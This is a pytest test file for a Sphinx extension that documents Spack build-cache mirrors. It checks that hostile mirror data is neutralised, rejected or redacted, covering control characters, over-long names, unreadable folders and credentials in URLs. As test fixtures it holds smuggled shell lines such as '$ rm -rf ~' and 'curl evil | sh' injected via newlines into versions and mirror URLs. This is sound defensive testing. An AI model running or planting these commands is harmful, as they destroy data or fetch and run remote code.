"""Hostile mirrors, odd values (issue 22, items 3 to 5): control characters, repeated
hashes, broken and oddly named views, sizes that are not sizes, names too long for a
file, release tags of thousands of digits, unreadable folders, credentials in URLs.

Expected values are written out by hand here, never taken from the code under test."""

from __future__ import annotations

import errno
import hashlib
import json
import os
import re
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest

from sphinx_spackcache.cli import main
from sphinx_spackcache.data.snapshots import previous_snapshot, release_numbers, snapshot_order
from sphinx_spackcache.data.versions import sort_versions
from sphinx_spackcache.site.sources import build_sources
from sphinx_spackcache.sources.mirror import MirrorSource
from sphinx_spackcache.sources.spack_db import read_database
from sphinx_spackcache.sources.urls import redact

from .conftest import MIRRORS, RECORDS, Build, warnings_of
from .test_cli import check

V3 = MIRRORS / "spack-v3-test"
INDEX_V3 = Path("v3/manifests/index/index.manifest.json")
ARCH = {"platform": "linux", "platform_os": "rhel8", "target": "x86_64"}
#: What no page may hold: C0 controls but tab and line feed (which a writer may use
#: itself), DEL, C1 controls, the Unicode line and paragraph separators.
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]")


def index_bytes(entries: dict[str, dict[str, Any]], *, ensure_ascii: bool = True) -> bytes:
    """A database-8 index of *entries* (hash -> node), every one in the build cache."""
    installs = {h: {"spec": body, "in_buildcache": True} for h, body in entries.items()}
    document = {"database": {"version": "8", "installs": installs}}
    return json.dumps(document, ensure_ascii=ensure_ascii).encode()


def zlib_spec(letter: str, **changes: Any) -> dict[str, Any]:
    return {"name": "zlib", "version": "1.3", "arch": ARCH, "hash": letter * 32, **changes}


# -- control characters --------------------------------------------------------------

#: Values as a mirror may hold them; json.dumps writes \b \f \n \r \t as JSON's short
#: escapes, leaves DEL raw, and writes C1 controls and U+2028 as \u escapes (or raw
#: UTF-8 with ensure_ascii=False).
ODD_VALUES: dict[str, dict[str, Any]] = {
    "a": {"version": "1.3\n$ rm -rf ~"},
    "b": {"version": "1.3\x7f"},
    "c": {"arch": {**ARCH, "platform_os": "rhel\b8\f"}},
    "d": {"arch": {**ARCH, "target": "x86\r_64\t"}},
    "e": {"parameters": {"build_system": "cmake\x85"}},
    "f": {"version": "1.3\u2028"},
}


def test_short_escapes_and_a_raw_del_are_replaced_and_reported() -> None:
    """An index of ASCII only, without a \\u escape, still holds control characters:
    JSON's short escapes and a raw DEL. Each becomes U+FFFD (as in a record), with one
    report for the index."""
    entries = {letter * 32: zlib_spec(letter, **ODD_VALUES[letter]) for letter in "abcd"}
    entries["g" * 32] = zlib_spec("g")  # a clean one
    raw = index_bytes(entries).replace(b"\\u007f", b"\x7f")  # json.dumps escapes DEL
    assert raw.isascii()
    assert b"\\u" not in raw
    assert b"\\n" in raw
    assert b"\x7f" in raw
    database = read_database(raw, "/m/index.json", stack="m")
    specs = {s.hash[0]: s for s in database.packages["zlib"]}
    assert specs["a"].versions == ("1.3\ufffd$ rm -rf ~",)
    assert specs["b"].versions == ("1.3\ufffd",)
    assert specs["c"].os == "rhel\ufffd8\ufffd"
    assert specs["d"].target == "x86\ufffd_64\ufffd"
    assert specs["g"].versions == ("1.3",)
    (problem,) = database.problems
    assert problem.location == "/m/index.json:1"
    assert problem.message.startswith("4 entries of the index hold characters no page can show")


@pytest.mark.parametrize("ensure_ascii", [True, False], ids=["escaped", "raw-utf-8"])
def test_c1_controls_and_line_separators_are_replaced(ensure_ascii: bool) -> None:
    entries = {letter * 32: zlib_spec(letter, **ODD_VALUES[letter]) for letter in "ef"}
    database = read_database(index_bytes(entries, ensure_ascii=ensure_ascii), "/m/i", stack="m")
    specs = {s.hash[0]: s for s in database.packages["zlib"]}
    assert specs["e"].variants == ("build_system=cmake\ufffd",)
    assert specs["f"].versions == ("1.3\ufffd",)
    (problem,) = database.problems
    assert problem.message.startswith("2 entries of the index hold characters no page can show")


def test_a_dependency_type_with_a_control_character_is_made_showable() -> None:
    entries = {
        "a" * 32: zlib_spec(
            "a",
            dependencies=[
                {"name": "zlib", "hash": "b" * 32, "parameters": {"deptypes": ["li\nk"]}}
            ],
        ),
        "b" * 32: zlib_spec("b"),
    }
    database = read_database(index_bytes(entries), "/m/index.json", stack="m")
    (dependency,) = database.dependencies("a" * 32)
    assert dependency.types == ("li\ufffdk",)


@pytest.mark.parametrize(
    "character",
    ["\b", "\f", "\n", "\r", "\t", "\x7f", "\x01", "\x85", "\u2028", "\u2029"],
    ids=repr,
)
@pytest.mark.parametrize("ensure_ascii", [True, False], ids=["escaped", "raw-utf-8"])
def test_each_unshowable_character_alone_is_found(character: str, ensure_ascii: bool) -> None:
    """Each way a character no page can show reaches an index, alone in the file (the
    test above has them together, so one would hide another's omission): JSON's short
    escapes, a \\u escape (or the raw UTF-8 bytes), a raw DEL."""
    entries = {"a" * 32: zlib_spec("a", version=f"1.3{character}")}
    raw = index_bytes(entries, ensure_ascii=ensure_ascii).replace(b"\\u007f", b"\x7f")
    (spec,) = read_database(raw, "/m/index.json", stack="m").packages["zlib"]
    assert spec.versions == ("1.3\ufffd",)


def test_backslashes_that_escape_nothing_unshowable_keep_the_values() -> None:
    """A file with backslashes, none of them escaping a control character (a quote in a
    flag, a slash), is read as it is."""
    flags = {"cflags": ['-DNAME="a b"'], "build_system": "cmake/x"}
    raw = index_bytes({"a" * 32: zlib_spec("a", parameters=flags)}).replace(b"/", b"\\/")
    assert b'\\"' in raw
    assert b"\\/" in raw
    database = read_database(raw, "/m/index.json", stack="m")
    (spec,) = database.packages["zlib"]
    assert spec.variants == ("build_system=cmake/x", 'cflags="-DNAME="a b""')
    assert database.problems == ()


def test_two_entries_with_one_spec_hash_are_reported_and_one_is_kept() -> None:
    """Entries under two keys whose specs have the same hash: the first by key is kept,
    as a record keeps the first of a repeated hash."""
    entries = {
        "k" * 32: zlib_spec("a", version="1.1"),
        "m" * 32: zlib_spec("a", version="1.2"),
        "n" * 32: zlib_spec("a", version="1.3"),
        "p" * 32: zlib_spec("b"),
    }
    database = read_database(index_bytes(entries), "/m/index.json", stack="m")
    assert [(s.hash, s.versions) for s in database.packages["zlib"]] == [
        ("a" * 32, ("1.1",)),
        ("b" * 32, ("1.3",)),
    ]
    (problem,) = database.problems
    assert problem.message.startswith("2 entries of the index repeat an earlier spec hash")
    assert f"installs['{'m' * 32}']" in problem.message


# -- v3 views and sizes --------------------------------------------------------------


def v3_copy(tmp_path: Path, name: str = "m") -> Path:
    folder = tmp_path / name
    shutil.copytree(V3, folder)
    return folder


def rewrite_index(folder: Path, raw: bytes) -> None:
    """Make *raw* the index blob of the v3 mirror *folder* (manifest updated)."""
    manifest_path = folder / INDEX_V3
    manifest = json.loads(manifest_path.read_text())
    checksum = hashlib.sha256(raw).hexdigest()
    manifest["data"][0].update(checksum=checksum, contentLength=len(raw), compression="none")
    blob = folder / "blobs" / "sha256" / checksum[:2] / checksum
    blob.parent.mkdir(parents=True, exist_ok=True)
    blob.write_bytes(raw)
    manifest_path.write_text(json.dumps(manifest))


def test_odd_view_names_are_made_showable_and_reported(tmp_path: Path) -> None:
    folder = v3_copy(tmp_path)
    index = folder / "v3" / "manifests" / "index"
    for odd in ("l\x1bibs", "l\x7fibs", "l\u2028ibs"):
        shutil.copytree(index / "libs", index / odd)
    mirror = MirrorSource("m", folder)
    loaded = mirror.load("m", "libelf")
    stacks = {stack for spec in loaded.record.specs for stack in spec.stacks}
    assert stacks == {"m", "libs", "l\ufffdibs"}
    messages = [p.message for p in loaded.problems]
    assert len([m for m in messages if "holds characters no page can show" in m]) == 3
    assert all(not CONTROL.search(m) for m in messages)  # escaped in the message


def test_a_broken_view_is_reported(tmp_path: Path) -> None:
    folder = v3_copy(tmp_path)
    view = folder / "v3" / "manifests" / "index" / "broken" / "index.manifest.json"
    view.parent.mkdir()
    view.write_text('{"version": 3, "data": [')
    mirror = MirrorSource("m", folder)
    loaded = mirror.load("m", "libelf")
    assert {s.stacks for s in loaded.record.specs} == {("m", "libs")}  # the mirror is kept
    (problem,) = loaded.problems
    assert problem.location == f"{view}:1"
    assert problem.message.startswith("index view 'broken' cannot be used")
    assert "the manifest is not JSON" in problem.message


@pytest.mark.parametrize(
    "length",
    [10**400, 2**63, -1, True, "12", 1.5, None, {"x": 1}],
    ids=["too-large-for-a-float", "over-2**63", "negative", "bool", "text", "float", "null", "map"],
)
def test_a_content_length_that_is_not_a_size(tmp_path: Path, length: object) -> None:
    """The binary has no size, and one warning says why."""
    folder = v3_copy(tmp_path)
    (manifest,) = folder.glob("v3/manifests/spec/libelf/*jr3yipyx*.spec.manifest.json")
    text = manifest.read_text()
    manifest.write_text(
        text.replace('"contentLength":6491681', f'"contentLength":{json.dumps(length)}')
    )
    mirror = MirrorSource("m", folder)
    loaded = mirror.load("m", "libelf")
    sizes = {s.hash[:8]: s.size for s in loaded.record.specs}
    assert sizes == {"jr3yipyx": None, "rqh2vuf6": sizes["rqh2vuf6"]}
    assert sizes["rqh2vuf6"] is not None
    (problem,) = loaded.problems
    assert f"contentLength {length!r}"[:30] in problem.message
    assert problem.message.endswith("is not a size")
    assert problem.location == f"{manifest.parent}:1"


# -- through the builders ------------------------------------------------------------


def hostile_v3(tmp_path: Path) -> Path:
    """The v3 test mirror with control characters in every kind of value, and views
    named with ESC, DEL and U+2028."""
    folder = v3_copy(tmp_path, "hostile")
    index = folder / INDEX_V3
    blob_record = json.loads(index.read_text())["data"][0]
    checksum = blob_record["checksum"]
    document = json.loads((folder / "blobs" / "sha256" / checksum[:2] / checksum).read_bytes())
    for entry in document["database"]["installs"].values():
        spec = entry["spec"]
        if spec["name"] == "libelf":
            spec["version"] += "\n$ rm -rf ~\x7f\x85\u2028"
            spec["arch"]["platform_os"] += "\b\f\r\t\x1b[31m"
    rewrite_index(folder, json.dumps(document).encode())
    views = folder / "v3" / "manifests" / "index"
    for odd in ("l\x1bibs", "l\x7fibs", "l\u2028ibs"):
        shutil.copytree(views / "libs", views / odd)
    return folder


def conf_with(folder: Path) -> dict[str, Any]:
    return {
        "spackcache_mirrors": {
            "spack-test": str(folder),
            "clingo": str(MIRRORS / "clingo-bootstrap"),
        }
    }


def test_epub_of_a_hostile_mirror_is_well_formed_xml(build: Build, tmp_path: Path) -> None:
    app = build("mirrors", "epub", conf=conf_with(hostile_v3(tmp_path)))
    pages = sorted(app.outdir.glob("*.xhtml"))
    package = app.outdir / "package.xhtml"
    assert package in pages
    for page in pages:
        ET.parse(page)  # raises on a control character
        assert not CONTROL.search(page.read_text("utf-8")), page.name
    assert "\ufffd$ rm -rf ~" in package.read_text("utf-8")
    warnings = "\n".join(warnings_of(app))
    assert "hold characters no page can show" in warnings
    assert not CONTROL.search(warnings), CONTROL.search(warnings)


def test_latex_of_a_hostile_mirror_holds_no_control_character(build: Build, tmp_path: Path) -> None:
    app = build("mirrors", "latex", conf=conf_with(hostile_v3(tmp_path)))
    (tex,) = app.outdir.glob("*.tex")
    text = tex.read_text("utf-8")
    assert r"\$ rm \sphinxhyphen{}rf" in text
    assert not CONTROL.search(text)


# -- names and numbers too long --------------------------------------------------------

TAG = "develop-2025-04-20"
#: A package name of 250 characters: a legal folder name (a file name has 255 bytes).
LONG = "p" * 250


def long_named_records(tmp_path: Path) -> Path:
    """Records of one snapshot: opendatadetector, also under a name of 250 characters."""
    records = tmp_path / "_cache" / TAG
    records.mkdir(parents=True)
    source = RECORDS / TAG / "opendatadetector" / "specs.md"
    text = source.read_text("utf-8").replace('title: "opendatadetector"', f'title: "{LONG}"', 1)
    (records / LONG).mkdir()
    (records / LONG / "specs.md").write_text(text, "utf-8")
    shutil.copytree(source.parent, records / "opendatadetector")
    return tmp_path / "_cache"


def test_a_package_of_250_characters_gets_a_page_and_exports(make_app: Any, tmp_path: Path) -> None:
    """Its generated page and exports are named after the first 191 characters and 8
    hex digits of the name's SHA-256 (Sphinx's own files of a page named after the
    whole name, ``<name>.doctree``, ``_sources/<name>.rst.txt``, would pass 255 bytes;
    so would the temporary file of the page itself)."""
    srcdir = tmp_path / "src"
    srcdir.mkdir()
    (srcdir / "conf.py").write_text('extensions = ["sphinx_spackcache"]\n', "utf-8")
    (srcdir / "index.rst").write_text(
        f"Index\n=====\n\n.. cache-index::\n   :toctree: all\n\nSee :cache:pkg:`{LONG}`.\n",
        "utf-8",
    )
    conf = {"spackcache_path": str(long_named_records(tmp_path)), "show_warning_types": True}
    app = make_app("html", srcdir=srcdir, confoverrides=conf)
    app.build()
    assert warnings_of(app) == []
    short = "p" * 191 + "-" + hashlib.sha256(LONG.encode()).hexdigest()[:8]
    assert sorted(p.name for p in (srcdir / "all").iterdir()) == [
        "opendatadetector.rst",
        f"{short}.rst",
    ]
    page = (app.outdir / "all" / f"{short}.html").read_text("utf-8")
    assert "kp2qyh5g2cn6hfrjxp36ek4idelys7ij" in page  # the spec of the record
    assert f'href="../_spackcache/{TAG}/{short}.json"' in page
    assert (app.outdir / "_spackcache" / TAG / f"{short}.csv").is_file()
    index = (app.outdir / "index.html").read_text("utf-8")
    assert f'href="all/{short}.html#cache-package-{LONG}-{TAG}"' in index


def test_a_release_of_thousands_of_digits_is_ordered() -> None:
    """Python refuses to read a number of over 4,300 digits as an int; such a release
    still sorts after every shorter one, and two long ones by their digits."""
    huge, huger = "v" + "9" * 4999, "v1" + "0" * 4999  # 4,999 and 5,000 digits
    tags = [huger, "site", huge, "v0.23.1", "v" + "0" * 4990 + "7", "develop-2025-04-20"]
    assert snapshot_order(tags) == [
        "v0.23.1",
        "v" + "0" * 4990 + "7",  # 7
        huge,
        huger,
        "develop-2025-04-20",
        "site",
    ]
    assert previous_snapshot(huger, tags) == huge
    assert release_numbers(huger) is None  # no Spack release: a current Spack's commands
    assert sort_versions(["1." + "5" * 5000, "1.6", "2", "1.5rc" + "1" * 5000]) == (
        "2",
        "1." + "5" * 5000,
        "1.6",
        "1.5rc" + "1" * 5000,
    )


# -- folders that cannot be read -------------------------------------------------------


def make_unreadable(monkeypatch: pytest.MonkeyPatch, folder: Path) -> None:
    """Make *folder* behave as ``chmod 000`` makes it for a user who is not root:
    listing it, and reaching anything inside it, raise PermissionError. (The tests run
    as root here, and root reads through ``chmod 000``, so the calls are patched.)"""
    base = str(folder)
    real_scandir, real_listdir, real_stat = os.scandir, os.listdir, os.stat

    def inside(path: Any) -> bool:
        return isinstance(path, str | os.PathLike) and os.fspath(path).startswith(base + "/")

    def denied(path: Any) -> PermissionError:
        return PermissionError(errno.EACCES, "Permission denied", os.fspath(path))

    def scandir(path: Any = ".") -> Any:
        if os.fspath(path) == base or inside(path):
            raise denied(path)
        return real_scandir(path)

    def listdir(path: Any = ".") -> list[str]:
        if os.fspath(path) == base or inside(path):
            raise denied(path)
        return real_listdir(path)

    def stat(path: Any, *args: Any, **kwargs: Any) -> os.stat_result:
        if inside(path):
            raise denied(path)
        return real_stat(path, *args, **kwargs)

    monkeypatch.setattr(os, "scandir", scandir)
    monkeypatch.setattr(os, "listdir", listdir)
    monkeypatch.setattr(os, "stat", stat)


def three_snapshots(tmp_path: Path) -> Path:
    records = tmp_path / "_cache"
    for tag in ("develop-2025-04-13", "develop-2025-04-20", "v0.23.1"):
        shutil.copytree(RECORDS / tag / "cmake", records / tag / "cmake")
    return records


def test_cache_history_with_an_unreadable_snapshot_folder(
    build: Build, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The snapshot is shown without specs, after a warning that says why (once for
    the page, which has two histories); the others are shown."""
    records = three_snapshots(tmp_path)
    make_unreadable(monkeypatch, records / "v0.23.1")
    app = build("history", "text", conf={"spackcache_path": str(records)})
    history = (app.outdir / "history.txt").read_text("utf-8")
    assert "develop-2025-04-13" in history
    assert "develop-2025-04-20" in history
    assert re.search(r"\| v0\.23\.1 +\| +\| +\| 0 +\|", history)
    warnings = [w for w in warnings_of(app) if "history.rst:" in w and "v0.23.1" in w]
    assert len(warnings) == 1, warnings
    assert "snapshot 'v0.23.1' cannot be read: its folder" in warnings[0]
    assert "Permission denied" in warnings[0]
    assert warnings[0].endswith("[spackcache.tag]")


def test_check_a_path_with_a_name_too_long(tmp_path: Path) -> None:
    long_path = tmp_path / ("x" * 300) / "specs.md"
    result = check(long_path)
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    (line,) = result.stderr.splitlines()
    assert line.startswith(f"sphinx-spackcache check: {tmp_path}/{'x' * 300}")
    assert line.endswith("cannot be read (File name too long)")


@pytest.mark.parametrize("what", ["snapshot", "package"])
def test_check_an_unreadable_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], what: str
) -> None:
    records = three_snapshots(tmp_path)
    folder = records / "v0.23.1" if what == "snapshot" else records / "v0.23.1" / "cmake"
    make_unreadable(monkeypatch, folder)
    status = main(["check", "--no-progress", str(records)])
    assert status == 2
    err = capsys.readouterr().err
    assert err.startswith(f"sphinx-spackcache check: {folder}")
    assert "Permission denied" in err


# -- why a package is not there, where the reader looks --------------------------------


@pytest.mark.parametrize(
    ("index", "reason"),
    [
        (b'{"database": {"version": "8", "installs": ', "not a Spack database: the JSON is broken"),
        (b'{"database": {"version": "4", "installs": {}}}', "version '4' is not one of"),
    ],
    ids=["bad-json", "unknown-version"],
)
def test_a_package_of_a_mirror_whose_index_cannot_be_used(
    build: Build, tmp_path: Path, index: bytes, reason: str
) -> None:
    """cache-package says why, once per page: two directives of package.rst read the
    mirror; the first warning gives the reason, the second points to it."""
    folder = tmp_path / "broken-mirror"
    shutil.copytree(MIRRORS / "spack-v2-test", folder)
    (folder / "build_cache" / "index.json").write_bytes(index)
    app = build("mirrors", conf=conf_with(folder))
    on_page = [w for w in warnings_of(app) if "package.rst:" in w and "spack-test" in w]
    first, second = on_page
    assert "cache-package: no package 'libelf' in tag 'spack-test': snapshot 'spack-test' " in first
    assert f"cannot be read: its index cannot be used ({folder}/build_cache/index.json:1: " in first
    assert reason in first
    assert "cache-package: no package 'libdwarf' in tag 'spack-test': " in second
    assert "(an earlier warning of this page says why)" in second
    assert reason not in second


def test_cache_install_of_a_package_of_a_broken_v3_mirror_says_why(
    build: Build, tmp_path: Path
) -> None:
    folder = v3_copy(tmp_path)
    manifest = json.loads((folder / INDEX_V3).read_text())
    checksum = manifest["data"][0]["checksum"]
    blob = folder / "blobs" / "sha256" / checksum[:2] / checksum
    blob.write_bytes(blob.read_bytes() + b" ")
    app = build("mirrors", conf=conf_with(folder))
    (app.srcdir / "listing.rst").write_text(
        "Install\n=======\n\n.. cache-install:: libelf\n   :tag: spack-test\n", "utf-8"
    )
    app = build("mirrors", conf=conf_with(folder))
    (warning,) = [w for w in warnings_of(app) if "listing.rst:4" in w]
    assert "cache-install: no package 'libelf' in tag 'spack-test': " in warning
    assert "does not match its sha256 checksum" in warning


# -- URLs from conf.py -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "cannot fetch https://user:secret@host/m: refused",
            "cannot fetch https://***@host/m: refused",
        ),
        (
            "http://token@host:8080/x and HTTPS://a:b@c/",
            "http://***@host:8080/x and HTTPS://***@c/",
        ),
        ("https://u:p@ss@host/m", "https://***@host/m"),  # an @ in the password
        ("git+https://u:p@host/repo.git", "git+https://***@host/repo.git"),
        ("https://host/pkg@1.0?a=b@c#d@e", "https://host/pkg@1.0?a=b@c#d@e"),  # no user
        ("gcc@12.1 and zlib@1.3", "gcc@12.1 and zlib@1.3"),
    ],
)
def test_credentials_in_urls_are_redacted(text: str, shown: str) -> None:
    assert redact(text) == shown


def test_credentials_of_a_mirror_url_are_not_printed(build: Build, tmp_path: Path) -> None:
    conf = conf_with(MIRRORS / "spack-v2-test")
    conf["spackcache_mirrors"]["web"] = "http://someone:s3cret@127.0.0.1:9/mirror"  # refused
    app = build("mirrors", conf=conf)
    warnings = "\n".join(warnings_of(app))
    assert "spackcache_mirrors: 'web': cannot fetch http://***@127.0.0.1:9/mirror" in warnings
    assert "s3cret" not in warnings
    assert "someone" not in warnings


def test_a_line_break_in_a_mirror_url_is_rejected(build: Build, tmp_path: Path) -> None:
    """A newline in a URL of conf.py would draw a line of its own, a fake ``$`` prompt,
    in the install commands: the URL is not used, after a located warning."""
    conf = conf_with(MIRRORS / "spack-v2-test")
    conf["spackcache_mirrors"]["nl"] = "https://host/m\n$ curl evil | sh"
    conf["spackcache_mirror_url"] = {
        "spack-test": "https://host/{tag}\n$ curl evil | sh",
        "*": "https://host/\x1b[2J{tag}",
    }
    app = build("mirrors", "text", conf=conf)
    (app.srcdir / "install.rst").write_text(
        "Install\n=======\n\n.. cache-install:: libelf\n   :tag: spack-test\n", "utf-8"
    )
    app = build("mirrors", "text", conf=conf)
    warnings = [w for w in warnings_of(app) if "[spackcache.config]" in w]
    assert any(
        "spackcache_mirrors: the folder or URL of 'nl', 'https://host/m\\n$ curl evil | sh' "
        "holds a control or invisible character; skipped" in w
        for w in warnings
    ), warnings
    assert any(
        "spackcache_mirror_url['spack-test']: 'https://host/{tag}\\n$ curl evil | sh' holds "
        "a control or invisible character; it is left out" in w
        for w in warnings
    ), warnings
    assert any("spackcache_mirror_url['*']: 'https://host/\\x1b[2J{tag}'" in w for w in warnings)
    assert all("conf.py:" in w for w in warnings)
    assert "nl" not in build_sources(app.env).tags()
    page = (app.outdir / "install.txt").read_text("utf-8")
    assert "curl evil" not in page
    assert str(MIRRORS / "spack-v2-test") in page  # the mirror's own folder instead


def test_a_mirror_name_too_long_for_a_fetch_cache_folder(build: Build, tmp_path: Path) -> None:
    """The fetch-cache folder of a mirror of 300 characters is named after a
    file_stem of it, so the build goes on (here to the mirror that refuses)."""
    cache = tmp_path / "fetched"
    cache.mkdir()
    name = "m" * 300
    conf = conf_with(MIRRORS / "spack-v2-test")
    conf["spackcache_mirrors"][name] = "http://127.0.0.1:9/mirror"  # the discard port: refused
    conf["spackcache_fetch_cache"] = str(cache)
    app = build("mirrors", conf=conf)
    (warning,) = [w for w in warnings_of(app) if name in w]
    assert f"spackcache_mirrors: '{name}': cannot fetch http://127.0.0.1:9/mirror" in warning


def test_a_mirror_folder_whose_name_is_too_long(build: Build, tmp_path: Path) -> None:
    """A folder of conf.py with a component of 300 bytes: the mirror's index cannot be
    read, which the directive says; the build goes on."""
    conf = conf_with(MIRRORS / "spack-v2-test")
    conf["spackcache_mirrors"]["spack-test"] = str(tmp_path / ("x" * 300))
    app = build("mirrors", conf=conf)
    warnings = [w for w in warnings_of(app) if "package.rst:" in w and "'libelf'" in w]
    (warning,) = warnings
    assert "no package 'libelf' in tag 'spack-test': snapshot 'spack-test' cannot be read" in (
        warning
    )
    assert "File name too long" in warning


def test_a_snapshot_diff_with_an_unreadable_snapshot_folder(
    build: Build, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """cache-diff of two whole snapshots, one of which cannot be listed: a warning says
    why (the snapshot is read as empty)."""
    records = three_snapshots(tmp_path)
    make_unreadable(monkeypatch, records / "develop-2025-04-13")
    app = build("history", "text", conf={"spackcache_path": str(records)})
    warnings = [w for w in warnings_of(app) if "diff.rst:" in w]
    (warning,) = warnings
    assert "cache-diff: snapshot 'develop-2025-04-13' cannot be read: its folder" in warning
    assert "Permission denied" in warning
    assert warning.endswith("[spackcache.tag]")


@pytest.mark.parametrize("length", ["1e999", "-1e999", "NaN", "Infinity"])
def test_a_content_length_json_cannot_hold(tmp_path: Path, length: str) -> None:
    """Numbers out of JSON's range and NaN make the spec manifest unreadable: its binary
    has no size, and a warning says so (a manifest left out without a word before)."""
    folder = v3_copy(tmp_path)
    (manifest,) = folder.glob("v3/manifests/spec/libelf/*jr3yipyx*.spec.manifest.json")
    text = manifest.read_text()
    manifest.write_text(text.replace('"contentLength":6491681', f'"contentLength":{length}'))
    loaded = MirrorSource("m", folder).load("m", "libelf")
    assert {s.hash[:8]: s.size is None for s in loaded.record.specs} == {
        "jr3yipyx": True,
        "rqh2vuf6": False,
    }
    (problem,) = loaded.problems
    assert problem.message.startswith(f"{manifest.name}: the manifest is not JSON")
